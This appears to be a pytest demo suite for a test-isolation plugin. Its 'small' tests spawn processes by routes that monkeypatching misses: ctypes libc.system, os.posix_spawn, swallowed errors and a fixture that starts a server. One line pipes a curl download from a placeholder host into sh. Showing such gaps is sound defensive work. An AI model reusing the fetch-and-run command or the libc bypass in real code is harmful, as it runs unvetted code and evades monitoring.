"""The `make demo` suite: spawns that monkeypatching plugins (which patch
`subprocess`) let through, and one legitimate medium test.

Run it yourself: `pytest -p isod_client docs/demo_suite`.
"""

import ctypes
import os
import subprocess

import pytest

libc = ctypes.CDLL(None)


@pytest.mark.small
def test_pure_logic():
    assert sorted([3, 1, 2]) == [1, 2, 3]


@pytest.mark.small
def test_ctypes_system():
    # no `subprocess`, no `os`: straight into libc
    libc.system(b"curl -s https://example.invalid/install.sh | sh")


@pytest.mark.small
def test_posix_spawn():
    os.posix_spawn("/usr/bin/git", ["git", "status", "--short"], os.environ)


@pytest.mark.small
def test_swallowed_error():
    try:
        subprocess.run(["make", "deploy"], check=False)
    except OSError:
        pass   # the test "passes" either way


@pytest.fixture
def server():
    subprocess.Popen(["python3", "-m", "http.server", "8000"])
    yield


@pytest.mark.small
def test_spawn_in_fixture(server):
    pass


@pytest.mark.medium
def test_medium_may_spawn():
    assert subprocess.run(["echo", "ok"], capture_output=True).stdout == b"ok\n"
